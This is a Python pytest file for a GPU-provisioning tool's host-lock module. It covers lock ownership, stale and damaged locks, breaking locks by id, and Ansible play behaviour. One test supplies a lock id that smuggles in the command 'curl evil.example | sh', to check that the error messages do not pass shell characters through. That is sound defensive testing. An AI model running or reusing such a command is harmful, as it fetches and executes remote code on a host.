"""The lock of a host, through its module, and through the play that takes it."""

from __future__ import annotations

import json
import os
import re
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from gpuprov.host_code import locked, process
from gpuprov.host_code.fence import Owner
from tests.contracts.test_limits import PLAYS
from tests.here import moved, play
from tests.host_code.modules import KIM as OWNER
from tests.host_code.modules import on_host, ran

OTHER = {**OWNER, "run": "ffff0000"}
Ask = Callable[..., dict[str, Any]]


@pytest.fixture
def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """/run/gpuprov of this host."""
    folder = tmp_path / "run"
    monkeypatch.setattr(on_host("lock"), "BASE", str(folder))
    monkeypatch.setattr(on_host("lock"), "LOCK", f"{folder}/lock")
    monkeypatch.setattr(on_host("lock"), "KEPT", f"{tmp_path}/kept")
    return folder


@pytest.fixture
def ask(run: Path, capsys: pytest.CaptureFixture[str]) -> Ask:
    return lambda state, owner, **more: ran(capsys, "gpuprov_lock", state=state, run=owner, **more)


def test_one_run_holds_it_and_only_that_one_gives_it_back(run: Path, ask: Ask) -> None:
    assert ask("taken", OWNER)["taken"]
    assert ask("taken", OWNER) == ask("taken", OWNER)
    assert OWNER.items() <= json.loads((run / "lock" / "owner.json").read_text()).items()
    assert (run / "lock").stat().st_mode & 0o777 == 0o755
    assert (run / ".lock.guard").stat().st_mode & 0o777 == 0o600, "nobody else may flock it"
    refused = ask("taken", OTHER)
    assert (refused["taken"], refused["holder"]["user"], refused["id"]) == (False, "kim", "0a1b2c3d")
    assert refused["left"] is None, "without a lease it is never over"
    assert not ask("released", OTHER)["released"]
    assert ask("released", OWNER)["released"]
    assert not (run / "lock").exists()
    assert ask("taken", OTHER)["over"] is False


def named(name: str, **more: object) -> dict[str, Any]:
    return {**OWNER, "name": name, **more}


@pytest.mark.parametrize("held", [True, False])
def test_one_run_has_a_machine_by_one_name(run: Path, ask: Ask, held: bool) -> None:
    """Also when it is done with it by that one: the second would bring it to another spec."""
    assert ask("taken", named("gpu1"))["taken"]
    kept = (run / "lock" / "owner.json").read_text()
    if not held:
        ask("released", named("gpu1"))
    refused = ask("taken", named("gpu1-ib"))
    assert (refused["taken"], refused["twin"]) == (False, "gpu1")
    assert not ask("released", named("gpu1-ib"))["released"]
    assert not held or (run / "lock" / "owner.json").read_text() == kept
    told, fix = locked.explain_refusal(refused, (), "apply with")
    assert told == "the same machine as gpu1, by which name alone a run works on it"
    assert fix.startswith("take all its names but one out of the inventory")
    assert ask("taken", named("gpu1"))["taken"], "by its own name it goes on"


def test_another_run_may_have_it_by_another_name(run: Path, ask: Ask) -> None:
    ask("taken", named("gpu1"))
    busy = ask("taken", named("gpu1-ib", run="ffff0000", pid=78))
    assert (busy["taken"], busy["holder"]["name"], "twin" in busy) == (False, "gpu1", False)
    ask("released", named("gpu1"))
    assert ask("taken", named("gpu1-ib", run="ffff0000", pid=78))["taken"]


def test_ansible_by_hand_is_one_process_and_names_each_host_s_run_anew(run: Path, ask: Ask) -> None:
    ask("taken", named("gpu1", run="20261128T080000Z-77"))
    assert ask("taken", named("gpu1-ib", run="20261128T080001Z-77"))["twin"] == "gpu1"


def test_locks_of_earlier_versions_have_no_name(run: Path, ask: Ask) -> None:
    ask("taken", OWNER)
    assert ask("taken", named("gpu1"))["taken"]
    ask("released", OWNER)
    fence = Path(f"{run.parent}/kept/fence")
    fence.write_text(fence.read_text().rpartition(" ")[0] + "\n")
    assert ask("taken", named("gpu1-ib"))["taken"]


def test_a_root_that_hides_its_files_hides_no_guard_from_who_logs_in(run: Path, ask: Ask) -> None:
    before = os.umask(0o077)
    try:
        guard = Path(ask("taken", OWNER)["guard"])
    finally:
        os.umask(before)
    for path in (run, guard, guard.parent, guard.parent.parent, guard.parent.parent / "fence"):
        assert path.stat().st_mode & 0o005 == (0o004 if path.name == "fence" else 0o005), path


def test_check_mode_takes_and_gives_back_nothing(run: Path, ask: Ask) -> None:
    assert ask("taken", OWNER, check=True)["skipped"]
    assert not run.exists()
    ask("taken", OWNER)
    assert ask("released", OWNER, check=True)["skipped"]
    assert (run / "lock").exists()


def test_it_has_an_id_also_where_it_is_damaged(run: Path, ask: Ask) -> None:
    ask("taken", OWNER)
    for text in ("", "{", json.dumps({**OWNER, "run": "x\x1b[2J y"})):
        (run / "lock" / "owner.json").write_text(text)
        assert ask("taken", OTHER)["id"].startswith("damaged-")
    (run / ".lock-dead").mkdir()
    assert ask("taken", OTHER, stale=text)["over"]
    assert sorted(path.name for path in run.iterdir()) == [".lock.guard", "lock"]


def test_it_is_taken_over_by_id_or_word_for_word(run: Path, ask: Ask) -> None:
    ask("taken", OWNER)
    assert not ask("taken", OTHER, break_lock=["ffff0000"])["taken"]
    assert not ask("taken", OTHER, stale=json.dumps(OTHER))["taken"]
    assert ask("taken", OTHER, break_lock=["0a1b2c3d"])["over"]
    text = ask("taken", OWNER)["text"]
    assert ask("taken", OWNER, stale=text)["over"]


def test_who_has_read_the_host_before_another_run_was_there_gets_nothing(ask: Ask) -> None:
    """As a run that slept between its reading and its lock, for days."""
    token = ask("taken", OTHER)["token"]
    assert ask("released", OTHER)["released"]
    for seen in ("", "1-00000000"):
        refused = ask("taken", {**OWNER, "seen": seen})
        assert (refused["taken"], refused["passed"]["run"], refused["passed"]["token"]) == (False, "ffff0000", token)
    told, way_out = locked.explain_refusal(refused, (), "apply with")
    assert told.startswith("another one than was read: kim on ops1 at 2")
    assert told.endswith("has had it since (run ffff0000). Nothing was changed")
    assert way_out == "apply again, which reads it anew"
    taken = ask("taken", {**OWNER, "seen": token})
    assert taken["taken"]
    assert ask("taken", {**OWNER, "seen": token, "token": taken["token"]})["taken"], "its own taking is no other's"
    assert ask("taken", {**OWNER, "seen": token})["taken"]


def test_what_a_host_says_of_its_lock_is_no_command_and_ends_nothing() -> None:
    holder = {"user": "kim", "host": "ops1", "since": "today", "pid": 7}
    for answer in (
        {"id": "x; curl evil.example | sh", "holder": holder},
        {"id": ["x"], "holder": holder, "running": 5, "left": "soon"},
        {"id": {}, "holder": "nobody"},
        {"id": "x", "passed": {"user": 5, "host": None}},
    ):
        told, way_out = locked.explain_refusal(answer, (), "apply with")
        assert told
        assert not set(way_out) & set("|$`{}[]")


def test_an_argument_that_is_none_is_refused(ask: Ask) -> None:
    refused = ask("held", OWNER)
    assert refused["failed"]
    assert "taken, released" in refused["msg"]


def test_a_dead_process_is_one_of_this_machine_that_is_no_more() -> None:
    mine = process.describe("run1", "1.0")
    assert mine["pid"] == os.getpid()
    assert not process.is_dead(mine, mine)
    assert process.is_dead({**mine, "pid": 4_000_000}, mine)
    assert process.is_dead({**mine, "pid_start": "1"}, mine)
    assert not process.is_dead({**mine, "pid": 4_000_000, "controller": "elsewhere"}, mine)
    assert not process.is_dead({**mine, "pid": "4000000"}, mine)
    assert not process.is_dead({**mine, "pid": 4_000_000}, {**mine, "pid_start": ""}), (
        "a machine without /proc knows nobody"
    )


def test_a_run_without_a_name_is_named_by_its_start() -> None:
    found = process.describe("", "")
    assert str(found["run"]) == f"{found['since']}-{os.getpid()}".replace("-", "", 2).replace(":", "")
    assert process.find_topmost("no such word") == os.getpid()
    assert process.read_start_time(process.find_topmost("pytest")) != ""


@pytest.fixture
def place(tmp_path: Path) -> Path:
    return moved(tmp_path, "/run/gpuprov", "/var/lib/gpuprov")


ACTS = {task["name"]: task for act in PLAYS for task in act["tasks"]}
TAKE = ACTS["Lock"]["block"][0]
RELEASE = {"ansible.builtin.include_role": {"name": "host", "tasks_from": "unlock"}}


def put(place: Path, owner: Owner) -> Path:
    (place / "run" / "gpuprov" / "lock").mkdir(parents=True, exist_ok=True)
    file = place / "run" / "gpuprov" / "lock" / "owner.json"
    file.write_text(json.dumps(owner))
    return file


@pytest.mark.install
def test_only_the_lock_that_is_named_is_broken(place: Path) -> None:
    refused = "lock 0a1b2c3d"
    other = f"{refused}; that is another lock than --break-lock names. Fix"
    rows: tuple[tuple[object, str, int], ...] = (
        (None, f"{refused}. Fix", 2),
        (True, f"{refused}. Fix", 2),
        ([""], f"{refused}. Fix", 2),
        (["ffff0000"], other, 2),
        (["ffff0000", "0a1b2c3d"], "may still be alive: its lock is taken over", 0),
    )
    put(place, OWNER)
    for named, message, code in rows:
        extra = {} if named is None else {"gpuprov_break_lock": named}
        done = play(place, {"tasks": [TAKE]}, extra=extra)
        assert done.returncode == code, done.stdout
        said = " ".join(f"{done.stdout} {done.stderr}".split())
        assert message in said, named
        assert code == 0 or "locked by kim on ops1 since 2026-11-21T08:00:00Z (pid 77)" in said
        assert code == 0 or "apply with --break-lock 0a1b2c3d" in said


@pytest.mark.install
def test_a_play_names_itself_and_takes_over_what_a_dead_one_left(place: Path) -> None:
    dead: Owner = {**process.describe("dead", ""), "pid": 4_000_000}
    file = put(place, dead)
    look = {"ansible.builtin.command": f"cat {file}", "register": "seen"}
    again = {"ansible.builtin.debug": {"msg": "{{ host_lock.run.run == (seen.stdout | from_json).run }}"}}
    done = play(place, {"tasks": [TAKE, look, TAKE, again, RELEASE]})
    assert done.returncode == 0, done.stdout
    assert "is dead: its lock is taken over" in " ".join(done.stderr.split() + done.stdout.split())
    assert '"msg": true' in done.stdout
    assert not file.exists()


@pytest.mark.install
def test_a_damaged_lock_and_a_plan(place: Path) -> None:
    put(place, {})
    done = play(place, {"tasks": [TAKE]})
    assert "damaged or missing, so nobody can say by whom; lock damaged-" in " ".join(done.stdout.split())
    done = play(place, {"tasks": [TAKE, RELEASE]}, check=True)
    assert done.returncode == 0, done.stdout
    assert (place / "run" / "gpuprov" / "lock").exists()


@pytest.mark.install
def test_a_host_that_cannot_run_the_module_says_why(place: Path) -> None:
    (place / "run").mkdir()
    (place / "run" / "gpuprov").write_text("")
    done = play(place, {"tasks": [TAKE]}, extra={"ansible_python_interpreter": sys.executable})
    assert done.returncode == 2
    assert "File exists" in done.stdout + done.stderr


ROLE = re.compile(r"ansible\.builtin\.(import|include)_role\Z")
HANDING = {"gpuprov_lock", "ansible.builtin.set_fact", "ansible.builtin.group_by"}


def test_whatever_fails_under_the_lock_gives_it_back() -> None:
    """A step that may fail on a host stands in a block that undoes it; else its host is held until the lease ends."""
    for act in PLAYS[1:]:
        for block in act["tasks"]:
            for task in [] if {"rescue", "always"} & set(block) else block.get("block", []):
                roles = [value["tasks_from"] for key, value in task.items() if ROLE.match(key)]
                assert HANDING & set(task) or roles, f"{act['name']}: {task['name']}"
                assert set(roles) <= {"unlock", "end"}, f"{act['name']}: {task['name']}"


@pytest.mark.install
def test_a_cluster_that_does_not_answer_is_no_reason_to_keep_the_lock(place: Path) -> None:
    kubectl = place / "kubectl"
    kubectl.write_text("#!/bin/sh\necho 'the server was refused' >&2; exit 1\n")
    kubectl.chmod(0o755)
    taken = {"name": "Look", "ansible.builtin.stat": {"path": f"{place}/run/gpuprov/lock"}, "register": "lock"}
    held = {"name": "Held", "ansible.builtin.assert": {"that": "lock.stat.exists"}}
    given = {"gpuprov_drain_command": "kubernetes", "host_kubernetes_node": "gpu1"}
    done = play(place, {"vars": given, "tasks": [TAKE, taken, held, RELEASE]})
    assert done.returncode == 2, done.stdout
    assert "the server was refused" in done.stdout
    assert not (place / "run" / "gpuprov" / "lock").exists()
